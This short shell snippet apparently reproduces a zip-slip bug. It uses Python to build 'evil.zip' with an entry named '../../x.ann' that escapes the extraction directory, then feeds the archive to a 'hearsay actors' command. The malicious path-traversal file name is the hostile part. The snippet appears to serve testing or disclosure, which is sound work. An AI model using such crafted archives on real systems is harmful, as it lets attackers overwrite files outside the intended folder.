python3 - <<'P'
import zipfile
with zipfile.ZipFile("evil.zip", "w") as z:
    z.writestr("a.ann", "T1\tSource 0 1\ta\n")
    z.writestr("../../x.ann", "T1\tSource 0 1\ta\n")
P
hearsay actors evil.zip
